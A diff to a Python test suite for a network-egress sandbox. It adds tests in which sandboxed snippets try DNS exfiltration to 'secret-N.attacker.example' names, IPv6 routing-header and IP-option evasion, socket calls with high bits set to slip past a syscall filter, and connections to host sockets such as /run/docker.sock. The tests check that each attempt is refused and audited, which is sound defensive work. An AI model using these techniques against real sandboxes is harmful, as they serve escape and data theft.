@@ -16,7 +16,7 @@ import threading
 import time
 import unittest
 
-from lib import TOP, Capture, Listener, Service, SLOW, pid_ns_inside
+from lib import TOP, Capture, Listener, Service, SLOW, bpftool
 
 ALLOW_ALL = os.path.join(TOP, "tests", "policies", "allow-all.json")
 AT_ONCE_MS = 50
@@ -390,6 +390,11 @@ def name_rows():
         payload = question("put-together-%d.example" % n)
         rows.append(udp_row("v4 " + label, code, "203.0.113.%d" % (n + 1), 53, payload, "put-together-%d.example" % n))
         rows.append(udp_row("v6 " + label, code, "2001:db8:5353::%x" % (n + 1), 53, payload, "put-together-%d.example" % n))
+    # Also behind whatever headers an unprivileged program can ask for. A routing header's first stop is where the packet goes.
+    for n, (label, options) in enumerate((("record route", b"\7\7\4\0\0\0\0\0"), ("timestamp", b"\x44\x08\5\0\0\0\0\0"), ("40 bytes of nothing", b"\1" * 40))):
+        rows.append(udp_row(label, "udp({a}, {p}, (0, 4, %r))" % options, "203.0.113.%d" % (10 + n), 53, question("behind-%d.example" % n), "behind-%d.example" % n))
+    route = struct.pack("!BBBBBBH", 0, 4, 4, 1, 1, 0, 0) + 2 * socket.inet_pton(socket.AF_INET6, "2001:db8::99")
+    rows.append(udp_row("routing header", "udp({a}, {p}, (41, 57, %r))" % route, "2001:db8:5353::40", 53, question("routed.example"), "routed.example", wire="2001:db8::99", heard=False))
     mapped = question("mapped.example")
     rows.append(udp_row("mapped", "udp(('::ffff:203.0.113.20', 53), {p})", "203.0.113.20", 53, mapped, "mapped.example"))
     rows.append(udp_row("v4 on v6 socket", "raw_sendto(INET6, {p}, sin('203.0.113.21', 53))", "203.0.113.21", 53, mapped, "mapped.example"))
@@ -400,6 +405,33 @@ def name_rows():
     # Over TCP there is no packet to read a name from: the connection is what is refused.
     rows.append(tcp_row("dns over tcp", "tcp({a})", "203.0.113.23", 53))
     rows.append(tcp_row("dns over tcp, v6", "tcp({a})", "2001:db8:5353::23", 53))
+    return rows
+
+
+def library_rows(every=True):
+    """Names through the C library's resolver. With a policy that lets it ask, nobody answers and it takes a second each."""
+    def row(label, code, name, qtype=1, kind="A", **kw):
+        kw.setdefault("deny", UNKNOWN_NAME)
+        kw.setdefault("allow", kw["deny"])
+        return udp_row(label, code.replace("{n}", repr(name)), "127.0.0.1", 53, question(name, qtype), name, malformed=(None, kind), **kw)
+
+    rows = [row("getaddrinfo", "socket.getaddrinfo({n}, 443, INET)", "secret-0.attacker.example")]
+    if every:
+        rows += [
+            row("getaddrinfo, v6", "socket.getaddrinfo({n}, 443, INET6)", "secret-6.attacker.example", 28, "AAAA"),
+            row("gethostbyname", "socket.gethostbyname({n})", "secret-1.attacker.example"),
+            row("uppercase", "socket.getaddrinfo({n}, 443, INET)", "SECRET-2.Attacker.Example"),
+            row("one label", "socket.getaddrinfo({n}, 443, INET)", "secret-3"),
+            row("final dot", "socket.getaddrinfo({n} + '.', 443, INET)", "secret-4.attacker.example"),
+            row("not ASCII", "socket.getaddrinfo('b\u00fccher.example', 443, INET)", "xn--bcher-kva.example"),
+            row("250 bytes", "socket.getaddrinfo({n}, 443, INET)", LONG_250),
+            row("gethostbyaddr", "socket.gethostbyaddr('8.8.8.8')", "8.8.8.8.in-addr.arpa", 12, "PTR", deny=("herror", errno.ENOENT)),
+            row("in a thread", "in_thread(lambda: attempt({l}, lambda: socket.getaddrinfo({n}, 443, INET)))", "secret-5.attacker.example", whole=True),
+            row("in a child", "in_child(lambda: attempt({l}, lambda: socket.getaddrinfo({n}, 443, INET)))", "secret-7.attacker.example", whole=True),
+        ]
+        # What /etc/hosts and the library itself know needs no packet, and must not fail.
+        for name in ("localhost", "sandbox", "1.2.3.4", "::1"):
+            rows.append(Row("known " + name, "bool(socket.getaddrinfo(%r, 443))" % name, [], [], deny=None))
     return rows
 
 
@@ -454,7 +486,7 @@ def way_rows():
         t("tcp from a program", "in_program({l}, 'tcp(%r)' % ({a},))", a(), whole=True),
         t("create_connection", "socket.create_connection({a}, 3).close()", a()),
         t("asyncio", "asyncio.run(async_connect({a}))", a()),
-        t("urllib", "urllib.request.urlopen('http://%s:%d/' % {a}, timeout=3)", a(), allow=("RemoteDisconnected", None)),
+        t("urllib", "urllib.request.urlopen('http://%s:%d/' % {a}, timeout=3)", a(), allow=("*", None)),
         t("https", "http.client.HTTPSConnection(*{a}, timeout=3).request('GET', '/')", a(), 443, allow=("*", None)),
         Row("v4 address on a v6 stream", "raw_connect(INET6, sin('192.0.2.252', 8080), b'x', STREAM)", [], [], deny=("OSError", errno.EINVAL), allow=("OSError", errno.EINVAL)),
     ]
@@ -482,6 +514,8 @@ def transport_of(packet):
         header, protocol, to = (packet[0] & 15) * 4, packet[9], socket.inet_ntop(socket.AF_INET, packet[16:20])
     else:
         header, protocol, to = 40, packet[6], socket.inet_ntop(socket.AF_INET6, packet[24:40])
+        if protocol == socket.IPPROTO_ROUTING:
+            header, protocol = header + (packet[header + 1] + 1) * 8, packet[header]
     body = packet[header:]
     port = struct.unpack("!H", body[2:4])[0] if len(body) >= 4 else None
     if protocol == socket.IPPROTO_UDP:
@@ -500,22 +534,9 @@ def first_packets(packets):
     return found
 
 
-def warm_box(service):
-    """(name, host pid of the interpreter) of the one warm sandbox."""
-    service.wait_warm()
-    deadline = time.monotonic() + 10 * SLOW
-    while time.monotonic() < deadline:
-        boxes = [(name, pids) for name, pids in service.sandboxes().items() if pids]
-        if len(boxes) == 1 and len(boxes[0][1]) == 2:
-            name, pids = boxes[0]
-            return name, next(pid for pid in pids if pid_ns_inside(pid) == 2)
-        time.sleep(0.02)
-    raise AssertionError("no single warm sandbox: %r" % boxes)
-
-
 def watch(service, code, settle=0.05, **fields):
     """Runs a snippet in the warm sandbox, with a capture and listeners in its network namespace."""
-    box, pid = warm_box(service)
+    box, pid = service.warm_box()
     with open("/proc/%d/comm" % pid) as f:
         command = f.read().strip()
     uid = os.stat("/proc/%d" % pid).st_uid
@@ -630,11 +651,19 @@ class Rows(unittest.TestCase):
         left, heard = first_packets(seen.packets), seen.heard
         want = [p for r in rows for p in r.arrives]
         self.assertEqual(shorten(left), shorten(want))
-        self.assertEqual(shorten(heard), shorten([p for r in rows for p in r.heard]))
+        # Whether a socket that joined no group hears a multicast is up to the kernel; the capture has it.
+        heard, must = collections.Counter(shorten(heard)), collections.Counter(shorten(p for r in rows for p in r.heard))
+        may = must | collections.Counter(shorten(want))
+        self.assertEqual((must - heard, heard - may), (collections.Counter(), collections.Counter()))
 
 
 def shorten(packets):
-    return sorted((p, str(ipaddress.ip_address(a)), n, payload[:80], len(payload)) for p, a, n, payload in packets)
+    """Sorted and comparable; a query's id is random when the C library has made it."""
+    return sorted((p, str(ipaddress.ip_address(a)), n, (payload[2:] if n == 53 else payload)[:80], len(payload)) for p, a, n, payload in packets)
+
+
+def pinned_entries(service, name):
+    return len(bpftool("map", "dump", "pinned", os.path.join(service.pins(), name)))
 
 
 def unescape(command):
@@ -656,10 +685,256 @@ class Denied(Rows):
         self.check_rows(way_rows())
 
 
+    def test_names_of_the_library(self):
+        self.check_rows(library_rows(every=not self.allowed))
+
+    def test_both_families_at_once(self):
+        """getaddrinfo() without a family asks twice if it can; how often it tries when it can't is the C library's choice."""
+        seen = watch(self.service, "attempt('both', lambda: socket.getaddrinfo('both.attacker.example', 443))")
+        events = seen.audit["events"]
+        self.assertEqual((seen.tries[0]["error"], seen.tries[0]["errno"]), UNKNOWN_NAME)
+        self.assertEqual({(e["dns_name"], e["address"], e["port"], e["pid"]) for e in events}, {("both.attacker.example", "127.0.0.1", 53, 2)})
+        self.assertIn(sum(e["count"] for e in events), (2,) if self.allowed else (1, 2))
+        self.assertEqual(seen.answer["egress"]["attempts"], sum(e["count"] for e in events))
+        self.assertEqual(len(seen.heard), 2 if self.allowed else 0)
+
+
 class Allowed(Denied):
     """The same rows under allow-all: everything that was denied above does arrive."""
 
     options, allowed = ("--policy", ALLOW_ALL), True
+
+
+class Sockets(unittest.TestCase):
+    """Families, types and protocols that a snippet can't have at all: they fail before there is anything to send."""
+
+    FAMILIES = {0: "UNSPEC", 3: "AX25", 4: "IPX", 5: "APPLETALK", 9: "X25", 15: "KEY", 16: "NETLINK", 17: "PACKET", 21: "RDS", 29: "CAN",
+                30: "TIPC", 31: "BLUETOOTH", 33: "RXRPC", 36: "IEEE802154", 38: "ALG", 39: "NFC", 40: "VSOCK", 41: "KCM", 42: "QIPCRTR",
+                43: "SMC", 44: "XDP", 45: "MCTP", 46: "46", 255: "255", 65535: "65535"}
+    INET = ((2, 1, "ping"), (2, 58, "ping6"), (1, 132, "SCTP"), (5, 132, "SCTP packets"), (6, 33, "DCCP"), (2, 33, "DCCP datagrams"), (2, 136, "UDP-Lite"),
+            (1, 262, "MPTCP"), (1, 256, "SMC"), (2, 115, "L2TP"), (3, 0, "raw"), (3, 1, "raw ICMP"), (3, 6, "raw TCP"), (3, 17, "raw UDP"), (3, 58, "raw ICMPv6"),
+            (3, 255, "raw IP"), (1, 17, "stream of UDP"), (2, 6, "datagrams of TCP"), (4, 0, "RDM"), (5, 0, "SEQPACKET"), (10, 0, "obsolete PACKET"), (1, 99, "99"), (2, 99, "99"))
+    CODE = """
+import ctypes
+libc = ctypes.CDLL(None, use_errno=True)
+SOCKET, SOCKETPAIR = 41, 53
+
+def made(nr, *args):
+    fds = (ctypes.c_int * 2)()
+    fd = libc.syscall(ctypes.c_long(nr), *(ctypes.c_ulong(a) for a in args), fds)
+    return fd if fd < 0 else os.close(fd) or 0
+
+for family, kind, protocol in %r:
+    for high in (0, 1 << 32, 1 << 63):  # the kernel reads 32 bits; a filter that reads 64 lets these through
+        for flags in (0, socket.SOCK_NONBLOCK | socket.SOCK_CLOEXEC):
+            attempt("%%d/%%d/%%d %%x %%x" %% (family, kind, protocol, high, flags), lambda: check(made(SOCKET, family | high, kind | flags | high, protocol | high)))
+    attempt("%%d/%%d/%%d pair" %% (family, kind, protocol), lambda: check(made(SOCKETPAIR, family, kind, protocol)))
+"""
+
+    @classmethod
+    def setUpClass(cls):
+        cls.service = Service(pool=1)
+
+    @classmethod
+    def tearDownClass(cls):
+        cls.service.stop()
+
+    def test_refused(self):
+        wanted = [(f, k, 0) for f in self.FAMILIES for k in (1, 2, 3, 5)] + [(f, k, p) for f in (2, 10) for k, p, _ in self.INET]
+        # The counter-proof: this kernel has a good part of them, so it is the sandbox that refuses.
+        here = [w for w in wanted if self.can_make(*w)]
+        self.assertGreaterEqual({f for f, _, _ in here}, {16, 17, 2, 10})
+        self.assertGreaterEqual(len(here), 10, here)
+        seen = watch(self.service, self.CODE % (wanted,), timeout_s=30)
+        self.assertEqual(seen.answer["stderr"], "")
+        self.assertEqual(len(seen.tries), 7 * len(wanted))
+        self.assertEqual([t for t in seen.tries if t["error"] is None or t["ms"] > AT_ONCE_MS * SLOW], [])
+        errnos = {errno.errorcode[t["errno"]] for t in seen.tries}
+        self.assertLessEqual(errnos, {"EPERM", "EAFNOSUPPORT", "EPROTONOSUPPORT", "ENOSYS"})
+        self.assertEqual((seen.audit["egress"]["attempts"], seen.packets, seen.heard), (0, [], []))
+
+    @staticmethod
+    def can_make(family, kind, protocol):
+        try:
+            socket.socket(family, kind, protocol).close()
+            return True
+        except OSError:
+            return False
+
+    def test_unix_sockets_among_its_own(self):
+        """They work, by path, abstract name and pair, and reach nothing of the host."""
+        name = "\0weir-test-%d" % os.getpid()
+        with socket.socket(socket.AF_UNIX) as host:
+            host.bind(name)
+            host.listen(4)
+            host.settimeout(0.2)
+            with socket.socket(socket.AF_UNIX) as other:
+                other.connect(name)  # the counter-proof: here it can be reached
+                host.accept()[0].close()
+            seen = watch(self.service, """
+def own(name):
+    with socket.socket(socket.AF_UNIX) as server, socket.socket(socket.AF_UNIX) as client:
+        server.bind(name)
+        server.listen()
+        client.connect(name)
+        with server.accept()[0] as s:
+            client.send(b"hello")
+            return s.recv(9).decode()
+
+def to(name):
+    with socket.socket(socket.AF_UNIX) as s:
+        s.connect(name)
+
+attempt("path", lambda: own("/tmp/own"))
+attempt("abstract", lambda: own("\\0own"))
+attempt("host", lambda: to(%r))
+for path in ("/run/dbus/system_bus_socket", "/run/nscd/socket", "/run/systemd/resolve/io.systemd.Resolve", "/run/docker.sock", "/run/containerd/containerd.sock", "/run/weir.sock"):
+    attempt(path, lambda: to(path))
+""" % name)
+            with self.assertRaises(TimeoutError):
+                host.accept()
+        ends = {t["label"]: (t["value"], t["error"]) for t in seen.tries}
+        self.assertEqual((ends.pop("path"), ends.pop("abstract")), (("hello", None), ("hello", None)))
+        self.assertEqual(ends.pop("host"), (None, "ConnectionRefusedError"))
+        self.assertEqual(set(ends.values()), {(None, "FileNotFoundError")})
+        self.assertEqual(seen.audit["egress"]["attempts"], 0)
+
+    def test_own_server_on_loopback(self):
+        """Listening works; connecting to oneself is an attempt like any other, and fails at once instead of hanging."""
+        seen = watch(self.service, """
+async def serve_and_connect():
+    server = await asyncio.start_server(lambda r, w: w.close(), "127.0.0.1", 8000)
+    await async_connect(("127.0.0.1", 8000))
+
+attempt("asyncio", lambda: asyncio.run(serve_and_connect()))
+import http.server
+attempt("http", lambda: http.server.HTTPServer(("::1" if False else "127.0.0.1", 8001), None).socket.getsockname()[1])
+""")
+        self.assertEqual([(t["error"], t["value"]) for t in seen.tries], [("PermissionError", None), (None, 8001)])
+        self.assertEqual([(e["protocol"], e["address"], e["port"], e["verdict"], e["count"]) for e in seen.audit["events"]], [("tcp", "127.0.0.1", 8000, "denied", 1)])
+
+
+class Flood(unittest.TestCase):
+    """More attempts than anybody wants to read: counted exactly, told in bounded detail, at nobody else's cost."""
+
+    SENDS, NAMES, PORTS, CHILDREN = 100000, 5000, 5000, 4
+    LISTED = 1024  # LIMIT_AUDIT_FLOWS
+
+    CODE = """
+s = socket.socket(INET, DGRAM)
+refused = 0
+
+def send(payload, address):
+    global refused
+    try:
+        s.sendto(payload, address)
+    except PermissionError:
+        refused += 1
+"""
+
+    @classmethod
+    def setUpClass(cls):
+        cls.service = Service(pool=2)
+        cls.service.wait_warm()
+
+    @classmethod
+    def tearDownClass(cls):
+        cls.service.stop()
+
+    def run_snippet(self, code, **fields):
+        answer = self.service.run("open('tries.py', 'w').write(%r)\nfrom tries import *\n%s%s" % (INSIDE, self.CODE, code), **fields)
+        self.assertEqual(answer["stderr"], "")
+        return answer, self.service.audit(answer["run_id"])
+
+    def flood(self):
+        return self.run_snippet("""
+for _ in range(%d): send(b"x", ("192.0.2.1", 9999))
+for i in range(%d):
+    name = b"secret-%%d" %% i
+    send(bytes(4) + bytes([0, 1]) + bytes(6) + bytes([len(name)]) + name + b"\\0\\0\\1\\0\\1", ("192.0.2.2", 53))
+for i in range(%d): send(b"x", ("192.0.2.3", 10000 + i))
+print(refused)
+""" % (self.SENDS, self.NAMES, self.PORTS), timeout_s=60)
+
+    def modest(self):
+        """Three hundred destinations, spread over the time of the flood."""
+        return self.run_snippet("""
+for i in range(300):
+    send(b"x", ("198.51.100.%d" % (i % 250), 9000 + i))
+    time.sleep(0.003)
+print(refused)
+""")
+
+    def test_flood_is_exact_and_bounded_and_costs_nobody_else(self):
+        results = {}
+        threads = [threading.Thread(target=lambda n=n, f=f: results.update({n: f()})) for n, f in (("flood", self.flood), ("modest", self.modest))]
+        for t in threads:
+            t.start()
+        for t in threads:
+            t.join(120 * SLOW)
+        answer, audit = results["flood"]
+        total = self.SENDS + self.NAMES + self.PORTS
+        self.assertEqual(answer["stdout"], "%d\n" % total)
+        egress, events = answer["egress"], audit["events"]
+        self.assertEqual((egress["attempts"], egress["denied"], egress["allowed"]), (total, total, 0))
+        # One entry has the whole flood, the next thousand have one each; the rest is counted as what it is, lost.
+        self.assertEqual(len(events), self.LISTED)
+        self.assertEqual(egress["lost"], total - sum(e["count"] for e in events))
+        self.assertEqual(egress["lost"], self.NAMES + self.PORTS - (self.LISTED - 1))
+        self.assertEqual((events[0]["address"], events[0]["port"], events[0]["count"]), ("192.0.2.1", 9999, self.SENDS))
+        self.assertEqual([e["dns_name"] for e in events[1:]], ["secret-%d" % i for i in range(self.LISTED - 1)])
+        self.assertEqual({e["count"] for e in events[1:]}, {1})
+        self.assertEqual(len(egress["destinations"]), 16)
+        self.assertEqual((egress["destinations"][0]["address"], egress["destinations"][0]["count"]), ("192.0.2.1", self.SENDS))
+        self.assertEqual([d["dns_name"] for d in egress["destinations"][1:]], ["secret-%d" % i for i in range(15)])
+        self.assertEqual(audit["egress"], dict({k: egress[k] for k in ("attempts", "denied", "allowed", "lost")}, exact=True))
+
+        answer, audit = results["modest"]
+        self.assertEqual(answer["stdout"], "300\n")
+        self.assertEqual({k: answer["egress"][k] for k in ("attempts", "denied", "lost")}, {"attempts": 300, "denied": 300, "lost": 0})
+        self.assertEqual([(e["address"], e["port"], e["count"]) for e in audit["events"]],
+                         [("198.51.100.%d" % (i % 250), 9000 + i, 1) for i in range(300)])
+
+        # And nothing of it stays in the kernel's tables.
+        self.service.wait_warm()
+        self.assertEqual(pinned_entries(self.service, "flows"), 0)
+        self.assertEqual(pinned_entries(self.service, "sandboxes"), 2)
+
+    def test_counts_are_exact_from_several_processes_at_once(self):
+        answer, audit = self.run_snippet("""
+pids = []
+for n in range(%d):
+    pid = os.fork()
+    if pid == 0:
+        t = threading.Thread(target=lambda: [send(b"x", ("192.0.2.1", 9999)) for _ in range(2500)])
+        t.start()
+        for _ in range(2500): send(b"x", ("192.0.2.1", 9999))
+        for i in range(100): send(b"x", ("192.0.2.2", 20000 + i))
+        t.join()
+        os._exit(0)
+    pids.append(pid)
+for pid in pids: os.waitpid(pid, 0)
+""" % self.CHILDREN)
+        total = self.CHILDREN * 5100
+        self.assertEqual({k: answer["egress"][k] for k in ("attempts", "denied", "lost")}, {"attempts": total, "denied": total, "lost": 0})
+        counts = {(e["address"], e["port"]): e["count"] for e in audit["events"]}
+        want = {("192.0.2.2", 20000 + i): self.CHILDREN for i in range(100)}
+        want["192.0.2.1", 9999] = self.CHILDREN * 5000
+        self.assertEqual(counts, want)
+
+    def test_what_is_sent_last_is_there(self):
+        """However a run ends: its last attempt, and the last of a loop."""
+        for how, reason in (("os._exit(0)", "exit"), ("os.kill(os.getpid(), 9)", "signal"), ("while True: n += 1; send(b'x', ('192.0.2.2', 9999)); n % 1000 or print(n)", "timeout")):
+            with self.subTest(how=how):
+                answer = self.service.run("open('tries.py', 'w').write(%r)\nfrom tries import *\n%s\nn = 0\nsend(b'x', ('192.0.2.1', 9999))\n%s" % (INSIDE, self.CODE, how), timeout_s=1)
+                audit = self.service.audit(answer["run_id"])
+                self.assertEqual(answer["termination"]["reason"], reason)
+                counts = {e["address"]: e["count"] for e in audit["events"]}
+                self.assertEqual(counts.pop("192.0.2.1"), 1)
+                printed = int((answer["stdout"].split() or [0])[-1])
+                self.assertEqual(sum(counts.values()) + 1, answer["egress"]["attempts"])
+                self.assertTrue(printed <= sum(counts.values()) <= printed + 1000, (printed, counts))
+                self.assertEqual((answer["egress"]["denied"], answer["egress"]["lost"]), (answer["egress"]["attempts"], 0))
 
 
 if __name__ == "__main__":
